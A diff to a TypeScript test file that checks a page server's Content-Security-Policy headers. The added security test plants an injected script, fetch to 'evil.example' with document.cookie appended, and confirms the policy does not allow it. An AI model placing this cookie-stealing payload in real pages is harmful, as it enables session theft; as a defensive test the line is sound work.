@@ -2,7 +2,8 @@ import { createHash } from 'node:crypto';
 import { brotliDecompressSync, gunzipSync } from 'node:zlib';
 import { loadBrands } from '#platform/brand/brands.ts';
 import { newToken } from '#platform/session/token.ts';
-import { countingRender, html, keeping, servePages } from './testing.ts';
+import type { RenderPage } from './pages.ts';
+import { countingRender, html, servePages } from './testing.ts';
 
 describe('over the wire', () => {
   it.each([
@@ -161,18 +162,29 @@ describe('an odd address', () => {
 describe('security', () => {
   const SCRIPT = 'document.documentElement.dataset.theme="dark"';
   const STYLE = ':root{--brand:#b4430f}';
-  const page = keeping(`<script>${SCRIPT}</script><style>${STYLE}</style>`);
+  const INJECTED = 'fetch("//evil.example/" + document.cookie)';
+  const page: RenderPage = async (_, { keep, mark }) => {
+    keep({ query: [] });
+    return html(
+      `<script nonce="${mark}">${SCRIPT}</script><style nonce="${mark}">${STYLE}</style>` +
+        `<script>${INJECTED}</script><style>*{display:none}</style>`,
+    );
+  };
   const sha = (source: string) => `'sha256-${createHash('sha256').update(source).digest('base64')}'`;
 
   it('headers are on a page rendered and on one from memory alike', async () => {
     const { ask } = await servePages(page);
     const seen = [];
     for (let i = 0; i < 2; i++) {
-      const { headers } = await ask('/mall');
+      const { headers, body } = await ask('/mall');
       const policy = headers['content-security-policy'] as string;
       expect(policy).toContain(`script-src 'self' ${sha(SCRIPT)};`);
       expect(policy).toContain(`style-src-elem 'self' ${sha(STYLE)};`);
       expect(policy).not.toMatch(/script-src[^;]*unsafe/);
+      // It was written into the page, and is not run.
+      expect(body.toString()).toContain(`<script>${SCRIPT}</script>`);
+      expect(body.toString()).toContain(`<script>${INJECTED}</script>`);
+      expect(policy).not.toContain(sha(INJECTED));
       expect(headers).toMatchObject({
         'x-content-type-options': 'nosniff',
         'x-frame-options': 'DENY',
